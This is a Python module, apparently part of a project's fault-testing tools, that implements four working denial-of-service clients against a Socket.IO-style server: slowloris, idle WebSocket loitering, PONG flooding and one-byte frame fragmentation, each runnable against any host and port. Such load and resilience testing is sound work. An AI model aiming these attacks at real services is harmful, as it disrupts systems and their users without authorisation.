"""Clients that mean harm: `python -m tools.faults.attackers ATTACK HOST PORT` attacks until it is ended."""

from __future__ import annotations

import asyncio
import json
import sys
from collections.abc import Awaitable, Callable, Coroutine
from contextlib import suppress
from typing import Any

from tools.faults.limits import many_descriptors
from tools.faults.wire import CONTINUATION, TEXT, frame, head

Address = tuple[str, int]
Attack = Callable[[Address], Awaitable[None]]

#: How many connections there are of each kind.
SLOW = 500
LOITERING = 10_000
FLOODING = 10

#: How many connections are opened in a second, and how many PONGs are sent by all together.
OPENING = 1_000.0
PONGS = 10_000

#: Seconds from one byte of a slow client to its next.
BYTE = 1.0

#: Frames of one byte in one write.
FRAGMENTS = 1_000


class Client(asyncio.Protocol):
    """A connection that sends this at once, and calls back for what comes."""

    def __init__(self, first: bytes, came: Callable[[asyncio.Transport, bytes], None] | None = None) -> None:
        self._first = first
        self._came = came

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        """Begin."""
        assert isinstance(transport, asyncio.Transport)
        self._transport = transport
        transport.write(self._first)

    def data_received(self, data: bytes) -> None:
        """Something has come."""
        if self._came is not None:
            self._came(self._transport, data)


async def _connect(address: Address, first: bytes) -> asyncio.Transport:
    transport, _ = await asyncio.get_running_loop().create_connection(lambda: Client(first), *address)
    return transport


async def _websocket(address: Address) -> asyncio.Transport:
    """A WebSocket in the default namespace."""
    opened = asyncio.get_running_loop().create_future()

    def came(transport: asyncio.Transport, data: bytes) -> None:
        if not opened.done():
            opened.set_result(None)

    request = head("transport=websocket", websocket=True)
    transport, _ = await asyncio.get_running_loop().create_connection(lambda: Client(request, came), *address)
    await opened
    transport.write(frame(b"40"))
    return transport


async def _keep_up(count: int, live: Callable[[], Coroutine[Any, Any, None]]) -> None:
    """Let so many clients live at a time, or as many as there can be; whoever has died is replaced."""
    count = min(count, many_descriptors() - 100)
    living: set[asyncio.Task[None]] = set()
    loop = asyncio.get_running_loop()
    began, opened = loop.time(), 0
    while True:
        while len(living) < count and opened < (loop.time() - began) * OPENING:
            task = asyncio.create_task(live())
            living.add(task)
            task.add_done_callback(living.discard)
            opened += 1
        if len(living) == count:
            began, opened = loop.time(), 0
        await asyncio.sleep(0.02)


async def _byte_by_byte(address: Address, first: bytes) -> None:
    """Send something, and then one byte after the other, slowly, until the server has had enough."""
    with suppress(OSError):
        transport = await _connect(address, first)
        while not transport.is_closing():
            await asyncio.sleep(BYTE)
            transport.write(b"x")


async def slowloris(address: Address) -> None:
    """Half of the clients never come to the end of a request's head, half to that of its body."""

    async def slow_body() -> None:
        with suppress(OSError, ValueError):
            reader, writer = await asyncio.open_connection(*address)
            writer.write(head("transport=polling", more="Connection: close\r\n"))
            sid = json.loads((await reader.read()).partition(b"\r\n\r\n0")[2])["sid"]
            writer.close()
            query = f"transport=polling&sid={sid}"
            await _byte_by_byte(address, head(query, method="POST", more="Content-Length: 100000\r\n"))

    unfinished = head("transport=polling")[:-2] + b"X-Slow: "
    await asyncio.gather(_keep_up(SLOW, lambda: _byte_by_byte(address, unfinished)), _keep_up(SLOW, slow_body))


async def loiter(address: Address) -> None:
    """Many WebSockets that never send CONNECT."""

    async def live() -> None:
        with suppress(OSError):
            transport = await _connect(address, head("transport=websocket", websocket=True))
            while not transport.is_closing():
                await asyncio.sleep(1)

    await _keep_up(LOITERING, live)


async def pong(address: Address) -> None:
    """PONGs that nobody has asked for."""

    async def live() -> None:
        transport = await _websocket(address)
        for_a_centisecond = frame(b"3") * (PONGS // FLOODING // 100)
        loop = asyncio.get_running_loop()
        due = loop.time()
        while not transport.is_closing():
            transport.write(for_a_centisecond)
            due += 0.01
            await asyncio.sleep(due - loop.time())

    await _keep_up(FLOODING, live)


async def fragment(address: Address) -> None:
    """Messages in fragments of one byte, as fast as the server takes them."""

    async def live() -> None:
        transport = await _websocket(address)
        event = b'42["tell",0,"' + b"x" * FRAGMENTS + b'"]'
        fragments = [frame(event[at : at + 1], CONTINUATION if at else TEXT, fin=False) for at in range(len(event))]
        message = b"".join(fragments) + frame(b"", CONTINUATION)
        while not transport.is_closing():
            transport.write(message)
            while transport.get_write_buffer_size() > 65_536:
                await asyncio.sleep(0.001)
            await asyncio.sleep(0)

    await _keep_up(FLOODING, live)


ATTACKS: dict[str, Attack] = {attack.__name__: attack for attack in (slowloris, loiter, pong, fragment)}


async def _attack(name: str, address: Address) -> None:
    await ATTACKS[name](address)


if __name__ == "__main__":
    asyncio.run(_attack(sys.argv[1], (sys.argv[2], int(sys.argv[3]))))
